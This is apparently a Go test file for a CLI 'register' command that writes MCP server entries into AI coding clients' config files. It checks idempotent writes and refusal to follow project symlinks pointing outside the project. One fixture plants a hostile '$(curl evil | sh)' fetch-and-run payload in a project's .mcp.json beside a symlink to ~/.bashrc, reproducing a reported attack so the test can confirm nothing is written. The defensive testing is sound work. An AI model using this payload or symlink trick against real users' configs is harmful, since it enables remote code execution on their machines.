package cli

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/webmcp-bridge/bridge/internal/bridgetest"
)

func TestRegisterCommand(t *testing.T) {
	home := t.TempDir()
	t.Setenv("HOME", home)
	t.Setenv("XDG_CONFIG_HOME", "")
	t.Setenv("CODEX_HOME", "")
	ctx := bridgetest.Context(t)
	dir := bridgetest.RuntimeDir(t)
	shimPath := filepath.Join(home, "bin", "webmcp-shim")

	// Without --write it only prints, with absolute paths.
	r := runCLI(ctx, t, dir, "", "register", "claude", "--shim", shimPath)
	r.expect(t, "register claude", 0)
	for _, want := range []string{"claude mcp add --scope user webmcp -- " + shimPath, shimPath + ` context --hook claude`, filepath.Join(home, ".claude.json")} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("register claude lacks %q:\n%s", want, r.stdout)
		}
	}
	if _, err := os.Stat(filepath.Join(home, ".claude.json")); err == nil {
		t.Error("register without --write wrote a file")
	}

	// The printed paths are absolute even for a relative --shim, and the
	// default is this binary.
	r = runCLI(ctx, t, dir, "", "register", "cursor")
	self, _ := selfPath()
	if !strings.Contains(r.stdout, `"command": "`+self+`"`) {
		t.Errorf("register cursor does not name this binary %s:\n%s", self, r.stdout)
	}

	for _, client := range []string{"claude", "codex", "gemini", "cursor", "vscode"} {
		r := runCLI(ctx, t, dir, "", "register", "--write", client, "--shim", shimPath)
		r.expect(t, "register --write "+client, 0)
		if !strings.Contains(r.stdout, "wrote ") {
			t.Errorf("register --write %s:\n%s", client, r.stdout)
		}
		r = runCLI(ctx, t, dir, "", "register", client, "--write", "--shim", shimPath)
		if strings.Contains(r.stdout, "wrote ") || strings.Contains(r.stdout, "updated ") || !strings.Contains(r.stdout, "unchanged ") {
			t.Errorf("second register --write %s changed something:\n%s", client, r.stdout)
		}
	}
	var cfg struct {
		MCPServers map[string]struct{ Command string } `json:"mcpServers"`
	}
	b, _ := os.ReadFile(filepath.Join(home, ".gemini", "settings.json"))
	if err := json.Unmarshal(b, &cfg); err != nil || cfg.MCPServers["webmcp"].Command != shimPath {
		t.Errorf("gemini settings %s (%v)", b, err)
	}
	if b, _ := os.ReadFile(filepath.Join(home, ".codex", "config.toml")); !strings.Contains(string(b), `command = "`+shimPath+`"`) {
		t.Errorf("codex config.toml:\n%s", b)
	}

	runCLI(ctx, t, dir, "", "register").expect(t, "register without a client", 2)
	r = runCLI(ctx, t, dir, "", "register", "emacs")
	r.expect(t, "register emacs", 2)
	if !strings.Contains(r.stderr, "claude, codex, gemini, cursor, vscode, claude-desktop") {
		t.Errorf("register emacs: %q", r.stderr)
	}
}

// register --write in an untrusted project: a link out of the project is
// refused before anything is written; in the user's own folder a linked
// file (dotfiles) is followed, and the output says so.
func TestRegisterLinks(t *testing.T) {
	home := t.TempDir()
	t.Setenv("HOME", home)
	t.Setenv("XDG_CONFIG_HOME", "")
	t.Setenv("CODEX_HOME", "")
	ctx := bridgetest.Context(t)
	dir := bridgetest.RuntimeDir(t)
	shimPath := filepath.Join(home, "bin", "webmcp-shim")
	mk := func(path, data string) {
		t.Helper()
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	ln := func(target, link string) {
		t.Helper()
		if err := os.MkdirAll(filepath.Dir(link), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(target, link); err != nil {
			t.Fatal(err)
		}
	}

	// The reported attack, and a linked .claude folder beside it.
	bashrc := filepath.Join(home, ".bashrc")
	mk(bashrc, "# mine\n")
	proj := filepath.Join(home, "src", "clone")
	evil := "{\n\"x\": \"$(curl evil | sh)\"}\n"
	mk(filepath.Join(proj, ".mcp.json"), evil)
	ln("../../.bashrc", filepath.Join(proj, ".mcp.json.bak"))
	elsewhere := filepath.Join(home, "elsewhere")
	os.MkdirAll(elsewhere, 0o755)
	ln(elsewhere, filepath.Join(proj, ".claude"))
	r := runCLI(ctx, t, dir, "", "register", "claude", "--write", "--project", proj, "--shim", shimPath)
	r.expect(t, "register claude --write --project with a linked .claude", 1)
	if !strings.Contains(r.stderr, filepath.Join(proj, ".claude")) || !strings.Contains(r.stderr, "outside") {
		t.Errorf("the refusal does not name the link and where it leads: %q", r.stderr)
	}
	if b, _ := os.ReadFile(filepath.Join(proj, ".mcp.json")); string(b) != evil {
		t.Errorf(".mcp.json was written before the refusal:\n%s", b)
	}
	if _, err := os.Stat(filepath.Join(elsewhere, "settings.json")); err == nil {
		t.Error("settings.json was written through the project's linked .claude")
	}
	// Without the linked folder, the .bak link is replaced, not written
	// through.
	os.Remove(filepath.Join(proj, ".claude"))
	r = runCLI(ctx, t, dir, "", "register", "claude", "--write", "--project", proj, "--shim", shimPath)
	r.expect(t, "register claude --write --project", 0)
	if b, _ := os.ReadFile(bashrc); string(b) != "# mine\n" {
		t.Errorf("~/.bashrc was written:\n%s", b)
	}

	// A dotfiles set-up.
	real := filepath.Join(home, "dotfiles", "cursor.json")
	mk(real, "{}")
	ln(real, filepath.Join(home, ".cursor", "mcp.json"))
	r = runCLI(ctx, t, dir, "", "register", "cursor", "--write", "--shim", shimPath)
	r.expect(t, "register cursor --write with a linked mcp.json", 0)
	if !strings.Contains(r.stdout, "link") || !strings.Contains(r.stdout, real) {
		t.Errorf("the output does not say the link was followed to %s:\n%s", real, r.stdout)
	}
	if fi, err := os.Lstat(filepath.Join(home, ".cursor", "mcp.json")); err != nil || fi.Mode()&os.ModeSymlink == 0 {
		t.Error("~/.cursor/mcp.json is no longer a link")
	}

	// A re-run after the client rewrote its file: unchanged.
	mcp := filepath.Join(home, ".claude.json")
	runCLI(ctx, t, dir, "", "register", "claude", "--write", "--shim", shimPath).expect(t, "register claude --write", 0)
	b, _ := os.ReadFile(mcp)
	var v any
	json.Unmarshal(b, &v)
	compact, _ := json.Marshal(v)
	os.WriteFile(mcp, compact, 0o644)
	os.Remove(mcp + ".bak")
	r = runCLI(ctx, t, dir, "", "register", "claude", "--write", "--shim", shimPath)
	if !strings.Contains(r.stdout, "unchanged "+mcp) {
		t.Errorf("a re-run after a reformat:\n%s", r.stdout)
	}
	if _, err := os.Stat(mcp + ".bak"); err == nil {
		t.Error("a re-run after a reformat made a backup")
	}
}
